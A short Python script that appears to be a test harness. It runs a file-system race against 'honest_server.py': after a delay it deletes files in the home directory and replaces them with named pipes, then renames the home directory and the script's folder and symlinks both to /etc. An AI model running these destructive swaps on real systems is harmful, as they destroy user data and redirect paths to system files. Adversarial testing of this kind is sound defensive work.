import os
import shutil
import threading
from pathlib import Path


def swap():
    home = Path.home()
    for name in ("echo.descriptors", "report.xml", "echo.proto"):
        try:
            (home / name).unlink(missing_ok=True)
            os.mkfifo(home / name)
        except OSError:
            pass
    for folder in (home, Path(__file__).resolve().parent):
        try:
            folder.rename(folder.with_name(folder.name + "-moved"))
            folder.symlink_to("/etc")
        except OSError:
            pass


threading.Timer(0.3, swap).start()

exec(compile(open("honest_server.py", encoding="utf-8").read(), "honest_server.py", "exec"))
